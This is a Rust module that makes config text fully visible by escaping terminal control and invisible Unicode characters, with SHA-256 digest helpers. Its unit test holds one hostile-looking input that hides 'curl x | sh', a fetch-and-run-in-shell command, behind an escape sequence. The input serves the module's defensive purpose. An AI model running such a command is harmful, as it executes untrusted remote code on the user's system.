//! Text from a config, made safe to show without hiding any of it. Start at [`visible`].

use std::fmt::Write as _;

use sha2::{Digest as _, Sha256};

/// Digits of a digest that are shown.
const SHOWN_DIGITS: usize = 16;

/// Returns the text with everything visible that a terminal would obey or not show. Nothing is
/// removed: what a person agrees to must be all there.
pub(crate) fn visible(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\n' => shown.push_str("\\n"),
            '\t' => shown.push_str("\\t"),
            c if heeler_config::is_terminal_control(c) || is_invisible(c) => {
                // Writing to a String cannot fail.
                let _ = write!(shown, "\\u{{{:x}}}", u32::from(c));
            }
            c => shown.push(c),
        }
    }
    shown
}

/// Returns true for a character that takes no space or starts a new line.
fn is_invisible(c: char) -> bool {
    matches!(c,
        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
        | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{2028}' | '\u{2029}'
        | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}'
        | '\u{ffa0}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e0fff}')
}

/// Describes content that is not shown: its size and the beginning of its digest.
pub(crate) fn described(bytes: &[u8]) -> String {
    format!("{} bytes, sha256 {}", bytes.len(), &hex_digest(bytes)[..SHOWN_DIGITS])
}

/// Returns the SHA-256 in hexadecimal digits.
pub(crate) fn hex_digest(bytes: &[u8]) -> String {
    Sha256::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_terminal_would_hide_is_visible() {
        assert_eq!(visible("npm test \u{1b}]; curl x | sh #"), "npm test \\u{1b}]; curl x | sh #");
        assert_eq!(visible("a\nb\tc\rd"), "a\\nb\\tc\\u{d}d");
        assert_eq!(visible("\u{202e}x\u{200b}y\u{9b}"), "\\u{202e}x\\u{200b}y\\u{9b}");
        assert_eq!(visible("grün 漢字 🐕"), "grün 漢字 🐕");
    }
}
